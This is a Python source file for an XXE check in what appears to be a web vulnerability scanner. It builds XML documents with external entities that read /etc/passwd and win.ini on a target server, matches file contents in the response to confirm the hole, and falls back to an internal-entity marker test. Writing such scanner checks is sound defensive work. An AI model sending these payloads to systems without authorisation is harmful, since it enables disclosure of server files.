"""XML external entities, where the site accepts XML: an external entity naming a world-readable file
(confirmed when its content comes back) and an internal entity (DTDs processed, when its marker comes back)."""

from __future__ import annotations

import re

from spyglass.scanner.checks.active._inject import is_destructive, token
from spyglass.scanner.checks.active._report import point_finding
from spyglass.scanner.checks.base import CheckContext, InjectionPoint
from spyglass.scanner.checks.passive._base import CheckBase, send
from spyglass.scanner.checks.passive._evidence import html_pages, without_query

FILE_CONTENT = re.compile(r"root:[^:\n]*:0:0:|\[fonts\]|; for 16-bit app support")
EXTERNAL = ("file:///etc/passwd", "file:///c:/windows/win.ini")
NAME = re.compile(r"[A-Za-z_][\w.-]*")


def xml_points(ctx: CheckContext) -> list[InjectionPoint]:
    """XML injection points of the crawl, plus POST forms whose enctype says XML (one per URL)."""
    points = {without_query(p.url): p for p in ctx.injection_points if p.location == "xml" and not is_destructive(p)}
    for page in html_pages(ctx):
        for form in page.forms:
            if "xml" in form.enctype.lower() and form.fields and without_query(form.action) not in points:
                field = form.fields[0]
                point = InjectionPoint(
                    form.method, form.action, field.name, "xml", ((field.name, field.value),), page.url
                )
                if not is_destructive(point):
                    points[without_query(form.action)] = point
    return list(points.values())


def _document(root: str, entity: str, body: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root} [{entity}]>\n<{root}>{body}</{root}>'


class XxeCheck(CheckBase):
    id = "xxe"
    family = "xxe"
    active = True

    async def scan(self, ctx: CheckContext) -> None:
        for point in xml_points(ctx):
            root = point.parameter if NAME.fullmatch(point.parameter) else "data"
            method = point.method.upper() if point.method.upper() in {"POST", "PUT"} else "POST"
            headers = {"Content-Type": "application/xml"}
            for system_id in EXTERNAL:
                payload = _document(root, f'<!ENTITY spy SYSTEM "{system_id}">', "&spy;")
                exchange = await send(ctx, method, point.url, content=payload, headers=headers)
                match = FILE_CONTENT.search(exchange.body) if exchange is not None else None
                if exchange is not None and match:
                    await ctx.report(point_finding("xxe", point, payload, exchange, match, entity=system_id))
                    break
            else:
                marker = token()
                payload = _document(root, f'<!ENTITY spy "{marker}">', "&spy;")
                exchange = await send(ctx, method, point.url, content=payload, headers=headers)
                match = re.search(marker, exchange.body) if exchange is not None else None
                if exchange is not None and match:
                    await ctx.report(
                        point_finding("xxe", point, payload, exchange, match, confidence="tentative", entity="internal")
                    )


CHECKS = [XxeCheck()]
